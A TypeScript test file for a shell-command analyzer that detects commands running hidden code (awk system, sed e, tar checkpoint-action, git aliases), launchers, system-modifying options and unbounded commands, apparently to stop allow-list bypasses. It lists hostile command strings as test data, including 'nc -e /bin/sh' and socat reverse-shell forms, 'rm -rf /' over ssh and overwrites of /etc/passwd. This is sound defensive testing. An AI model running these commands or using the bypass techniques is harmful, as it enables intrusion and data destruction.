import assert from 'node:assert/strict'
import { before, describe, it } from 'node:test'
import type { Analyzer } from '../analyzer.js'
import type { ShellFacts } from './index.js'
import { loadShellAnalyzer } from './index.js'
import { installed, runBash } from './test-bash.js'

let shell: Analyzer<ShellFacts>
before(async () => {
  shell = await loadShellAnalyzer()
})

const facts = (command: string): ShellFacts => shell.analyze({ command }).facts

/**
 * Issue 16, "programs that run code from their arguments" (GTFOBins): each example is run
 * through the real bash to show that it runs `touch out.txt`; the analyzer must list the
 * program in `runs_code`, and, the command being a literal, `touch` in `programs`. Before the
 * fix most listed only the outer program (`awk`, `sed`, `tar`, `git`…), which a read-only
 * allow-list may contain.
 */
const RUNS_CODE: readonly [string, string, string][] = [
  ['awk', `awk 'BEGIN{system("touch out.txt")}'`, 'awk'],
  ['awk with a pipe to a command', `awk 'BEGIN{print "x" | "touch out.txt"}'`, 'awk'],
  ['awk getline from a command', `awk 'BEGIN{"touch out.txt" | getline}'`, 'awk'],
  ['gawk', `gawk 'BEGIN{system("touch out.txt")}'`, 'gawk'],
  ['sed e command', `echo x | sed '1e touch out.txt'`, 'sed'],
  ['sed -n with e after an address', `echo x | sed -n '/x/e touch out.txt'`, 'sed'],
  ['find -exec', 'find . -maxdepth 0 -exec touch out.txt \\;', 'find'],
  ['find -execdir', 'find . -maxdepth 0 -execdir touch out.txt \\;', 'find'],
  ['tar --checkpoint-action=exec', `tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='touch out.txt' /etc/hostname`, 'tar'],
  ['tar --to-command', `tar -cf a.tar /etc/hostname 2>/dev/null; tar -xf a.tar --to-command='touch out.txt'`, 'tar'],
  ['tar -I', `tar -cf /dev/null -I 'touch out.txt;' /etc/hostname 2>/dev/null; true`, 'tar'],
  ['git alias', `git -c alias.x='!touch out.txt' x`, 'git'],
  ['git core.sshCommand', `git -c core.sshCommand='touch out.txt; false' ls-remote ssh://h/r 2>/dev/null; true`, 'git'],
  ['env -S', `env -S 'touch out.txt'`, 'env'],
  ['xargs', 'echo out.txt | xargs touch', 'xargs'],
  ['perl -e', `perl -e 'system("touch out.txt")'`, 'perl'],
  ['python3 -c', `python3 -c 'open("out.txt", "w")'`, 'python3'],
  ['vim -c :!', `vim -es -c ':!touch out.txt' -c ':qa!'`, 'vim'],
  ['rsync -e', `rsync -e 'sh -c "touch out.txt" --' x:/etc/hostname . 2>/dev/null; true`, 'rsync'],
  ['zip -TT', `zip -q a.zip /etc/hostname && zip -q -T -TT 'sh -c "touch out.txt"' a.zip; true`, 'zip'],
  ['script -c', `script -qc 'touch out.txt' /dev/null`, 'script'],
  ['bash -c', `bash -c 'touch out.txt'`, 'bash'],
]

describe('programs whose arguments run code are in runs_code (issue 16)', () => {
  for (const [construct, command, program] of RUNS_CODE) {
    const tool = program === 'env' || program === 'xargs' ? 'bash' : program
    it(`${construct}: ${command}`, { skip: installed(tool) ? false : `${tool} is not installed` }, () => {
      assert.equal(runBash(command).created, true, 'the real bash did not run the hidden command: the example proves nothing')
      const found = facts(command)
      assert.ok(found.runs_code.some((r) => r.program === program), JSON.stringify(found.runs_code))
      const literal = !['python3', 'perl'].includes(program)
      if (literal) assert.ok(found.programs.includes('touch'), `${JSON.stringify(found.programs)} misses touch`)
    })
  }

  const more: readonly [string, string][] = [
    ['ruby -e "system(1)"', 'ruby'],
    ['node -e "x"', 'node'],
    ['php -r "x();"', 'php'],
    ['python3 script.py', 'python3'],
    ['python3.11 -m http.server', 'python3.11'],
    ['less /var/log/syslog', 'less'],
    ['man -P "sh -c id" ls', 'man'],
    ['more f', 'more'],
    ['ssh -o ProxyCommand="touch x" host', 'ssh'],
    ['ssh host uptime', 'ssh'],
    ['scp -S ./evil a b:', 'scp'],
    ['nc -e /bin/sh host 1', 'nc'],
    ['socat tcp:host:1 EXEC:/bin/sh', 'socat'],
    ['git -c core.sshCommand="touch x" fetch', 'git'],
    ['git rebase -x "make test" main', 'git'],
    ['git submodule foreach "touch x"', 'git'],
    ['watch -n 1 "touch x"', 'watch'],
    ['parallel touch ::: a b', 'parallel'],
    ['make', 'make'],
    ['npm run build', 'npm'],
    ['tar --use-compress-program="touch x" -cf a.tar .', 'tar'],
    ['find / -ok rm {} \\;', 'find'],
    ['eval "ls"', 'eval'],
    ['bash ./deploy.sh', 'bash'],
    ['sudo sh -x /tmp/x.sh arg', 'sh'],
    ['source ./env.sh', 'source'],
    ['. ./env.sh', '.'],
    ["awk -f prog.awk data", 'awk'],
    ['sed -f script.sed data', 'sed'],
  ]
  for (const [command, program] of more) {
    it(`${command} runs code through ${program}`, () => {
      assert.ok(facts(command).runs_code.some((r) => r.program === program), JSON.stringify(facts(command).runs_code))
    })
  }

  it('gives each entry as {program, arg}', () => {
    assert.deepEqual(facts(`awk 'BEGIN{system("id")}' f`).runs_code, [{ program: 'awk', arg: 'BEGIN{system("id")}' }])
    assert.deepEqual(facts('find . -exec rm {} +').runs_code, [{ program: 'find', arg: '-exec rm {}' }])
  })

  it('a shell reading its program from stdin is not given a script', () => {
    assert.deepEqual(facts('bash -s < x').runs_code, [])
    assert.deepEqual(facts('bash').runs_code, [])
  })

  const quiet = [`awk '{print $1}' f`, "awk -F: '$3 > 1000 || /a|b/ {print $1}' /etc/passwd", "sed -n '1,5p' f", "sed 's/a/b/g; s|x|y|' f", 'find . -name "*.log" -mtime +7', 'tar -tf a.tar', 'git log --oneline', 'git -C repo status', 'ls -la', "sed -E 's/(e)+/x/' f"]
  for (const command of quiet) {
    it(`${command} runs no code`, () => {
      assert.deepEqual(facts(command).runs_code, [])
    })
  }

  it('a sed script sed cannot read counts as running code', () => {
    assert.notDeepEqual(facts("sed 'k' f").runs_code, [])
  })

  it('sed --sandbox refuses e and w, so it runs nothing', () => {
    assert.deepEqual(facts("sed --sandbox '1e id' f").runs_code, [])
  })
})

/**
 * Issue 16, "wrappers": programs that start another program were not followed, so
 * `sudo taskset -c 0 rm -rf /var/lib/postgresql` listed only `sudo, taskset`.
 */
describe('launchers hand over to the command they start', () => {
  const cases: readonly [string, readonly string[]][] = [
    ['sudo taskset -c 0 rm -rf /var/lib/postgresql', ['sudo', 'taskset', 'rm']],
    ['taskset 0x3 rm x', ['taskset', 'rm']],
    ['taskset -p 0x3 1234', ['taskset']],
    ['chrt -f 10 rm x', ['chrt', 'rm']],
    ['chrt -p 10 1234', ['chrt']],
    ['nsenter -t 1 -m -u -n -p rm x', ['nsenter', 'rm']],
    ['nsenter --target=1 --mount -- rm x', ['nsenter', 'rm']],
    ['unshare -r rm x', ['unshare', 'rm']],
    ['setarch x86_64 -R rm x', ['setarch', 'rm']],
    ['linux32 rm x', ['linux32', 'rm']],
    ['strace -f -o /dev/null rm x', ['strace', 'rm']],
    ['ltrace -e malloc rm x', ['ltrace', 'rm']],
    ['valgrind --tool=memcheck --leak-check=full rm x', ['valgrind', 'rm']],
    ['systemd-run --scope -p MemoryMax=1G rm x', ['systemd-run', 'rm']],
    ['ssh -p 22 host rm -rf /', ['ssh', 'rm']],
    ['sshpass -p pw ssh host rm x', ['sshpass', 'ssh', 'rm']],
    ["script -qc 'rm x' /dev/null", ['script', 'rm']],
    ['firejail --noprofile rm x', ['firejail', 'rm']],
    ['torsocks curl x', ['torsocks', 'curl']],
    ['proxychains4 -q curl x', ['proxychains4', 'curl']],
    ['npm exec -- rimraf dist', ['npm', 'rimraf']],
    ['npx rimraf dist', ['npx', 'rimraf']],
    ['uv run --with x python -c 1', ['uv', 'python']],
    ['poetry run pytest', ['poetry', 'pytest']],
    ['bundle exec rake db:drop', ['bundle', 'rake']],
    ['numactl --interleave=all rm x', ['numactl', 'rm']],
    ['prlimit --nofile=10 rm x', ['prlimit', 'rm']],
    ['setpriv --reuid=0 rm x', ['setpriv', 'rm']],
    ['fakeroot rm x', ['fakeroot', 'rm']],
    ['faketime "2020-01-01" rm x', ['faketime', 'rm']],
    ['eatmydata rm x', ['eatmydata', 'rm']],
    ['unbuffer rm x', ['unbuffer', 'rm']],
    ['xvfb-run -a rm x', ['xvfb-run', 'rm']],
    ['envdir ./env rm x', ['envdir', 'rm']],
    ['setuidgid app rm x', ['setuidgid', 'rm']],
    ['chpst -u app rm x', ['chpst', 'rm']],
    ['sg docker "rm x"', ['sg', 'rm']],
    ['conda run -n env rm x', ['conda', 'rm']],
    ['direnv exec . rm x', ['direnv', 'rm']],
    ["nix-shell -p hello --run 'rm x'", ['nix-shell', 'rm']],
    ['op run -- rm x', ['op', 'rm']],
    ['aws-vault exec prod -- aws s3 rb s3://x', ['aws-vault', 'aws']],
    ['start-stop-daemon --start --exec /bin/rm -- x', ['start-stop-daemon', 'rm']],
  ]
  for (const [command, expected] of cases) {
    it(`${command} → ${expected.join(', ')}`, () => {
      assert.deepEqual(facts(command).programs, expected)
    })
  }

  it('marks what runs as root behind systemd-run and unshare -r', () => {
    assert.equal(facts('systemd-run rm x').commands.find((c) => c.program === 'rm')?.sudo, true)
    assert.equal(facts('unshare -r rm x').commands.find((c) => c.program === 'rm')?.sudo, true)
    assert.equal(facts('systemd-run --user rm x').commands.find((c) => c.program === 'rm')?.sudo, false)
  })

  for (const [launcher, command] of [['taskset', 'taskset -c 0 touch out.txt'], ['chrt', 'chrt -o 0 touch out.txt'], ['setarch', 'setarch "$(uname -m)" touch out.txt'], ['script', "script -qc 'touch out.txt' /dev/null"], ['strace', 'strace -f -o /dev/null touch out.txt']] as const) {
    it(`really runs the command behind ${launcher}`, { skip: installed(launcher) ? false : `${launcher} is not installed` }, () => {
      assert.equal(runBash(command).created, true)
      assert.ok(facts(command).programs.includes('touch'))
    })
  }
})

/**
 * Bypass 9 of issue 14, shell items: programs that read by default but change the system with
 * an option passed as read-only programs. Not run for real: they would change this machine.
 */
describe('options that make a reading program change things are in modifies (bypass 9)', () => {
  const writes: readonly [string, string][] = [
    ['date -s "2020-01-01"', 'date'],
    ['date --set=2020-01-01', 'date'],
    ['date 010203042030', 'date'],
    ['date +%s -s 2020-01-01', 'date'],
    ['date -u +%F 0101', 'date'],
    ['hostname evil', 'hostname'],
    ['hostname -F /etc/x', 'hostname'],
    ['hostnamectl set-hostname evil', 'hostnamectl'],
    ['hostnamectl hostname evil', 'hostnamectl'],
    ['timedatectl set-time "2020-01-01"', 'timedatectl'],
    ['timedatectl set-ntp false', 'timedatectl'],
    ['journalctl --vacuum-size=1M', 'journalctl'],
    ['journalctl --vacuum-time 1s', 'journalctl'],
    ['journalctl --rotate', 'journalctl'],
    ['journalctl --flush', 'journalctl'],
    ['dmesg -C', 'dmesg'],
    ['dmesg -c', 'dmesg'],
    ['dmesg --clear', 'dmesg'],
    ['dmesg -n 1', 'dmesg'],
    ['sysctl -w kernel.x=1', 'sysctl'],
    ['sysctl kernel.x=1', 'sysctl'],
    ['sysctl -p', 'sysctl'],
    ['sysctl --system', 'sysctl'],
    ['hwclock --systohc', 'hwclock'],
    ['systemctl stop postgresql', 'systemctl'],
    ['sort -o /etc/passwd f', 'sort'],
    ['uniq in.txt /etc/passwd', 'uniq'],
    ['sed -i s/a/b/ f', 'sed'],
    ["sed -n 'w /etc/x' f", 'sed'],
    ['find / -delete', 'find'],
    ['find . -fprint /etc/x', 'find'],
    [`awk '{print > "/etc/x"}' f`, 'awk'],
    ['crontab /tmp/x', 'crontab'],
    ['crontab -r', 'crontab'],
    ['ip addr add 1.2.3.4/24 dev eth0', 'ip'],
    ['ip link set eth0 down', 'ip'],
    ['ss -K dst 1.2.3.4', 'ss'],
    ['less -o /etc/x f', 'less'],
  ]
  for (const [command, program] of writes) {
    it(`${command} modifies through ${program}`, () => {
      assert.ok(facts(command).modifies.some((m) => m.program === program), JSON.stringify(facts(command).modifies))
    })
  }

  const reads = ['date', 'date +%s', 'date -d yesterday', 'date -u -R', 'date -d "2018-09-01 00:00" +%s -u', 'date +%F --utc', 'hostname', 'hostname -f', 'hostname -I', 'hostnamectl', 'hostnamectl status', 'hostnamectl hostname', 'timedatectl', 'timedatectl status', 'journalctl -u x -n 50', 'journalctl --since today', 'dmesg', 'dmesg -T', 'sysctl -a', 'sysctl kernel.hostname', 'hwclock', 'hwclock --show', 'systemctl status x', 'systemctl is-active x', 'sort f', 'uniq f', 'sed s/a/b/ f', 'crontab -l', 'ip addr', 'ip -br link show', 'ip route', 'ss -tlnp']
  for (const command of reads) {
    it(`${command} modifies nothing`, () => {
      assert.deepEqual(facts(command).modifies, [])
    })
  }
})

describe('commands that may never end are unbounded (bypass 9)', () => {
  const forever = ['tail -f /var/log/syslog', 'tail --follow=name x', 'tail -F x', 'tail -n 5 -f x', 'top', 'top -b', 'htop', 'watch df', 'less x', 'man ls', 'vim x', 'journalctl -f', 'journalctl -u x --follow', 'dmesg -w', 'ping host', 'ping -i 1 host', 'yes', 'vmstat 1', 'free -s 1', 'sleep infinity', 'kubectl logs -f pod', 'docker logs -f c', 'kubectl get pods -w', 'while true; do :; done', 'until false; do sleep 1; done', 'for ((;;)); do :; done', 'read x', 'tcpdump -i any', 'nc -l 8080']
  for (const command of forever) {
    it(`${command} is unbounded`, () => {
      assert.equal(facts(command).unbounded, true)
    })
  }
  const ends = ['tail -n 50 x', 'top -b -n 1', 'ping -c 3 host', 'ping -w 5 host', 'journalctl -n 100', 'vmstat 1 5', 'free -h', 'sleep 1', 'for f in a b; do echo $f; done', 'read -t 1 x', 'vim -es -c q', 'kubectl logs pod']
  for (const command of ends) {
    it(`${command} ends`, () => {
      assert.equal(facts(command).unbounded, false)
    })
  }
  it('tail -f really does not end on its own', { skip: installed('timeout') ? false : 'timeout is not installed' }, () => {
    // timeout exits 124 only when it had to stop the command.
    assert.equal(runBash('timeout 1 tail -f /dev/null').status, 124)
  })
})
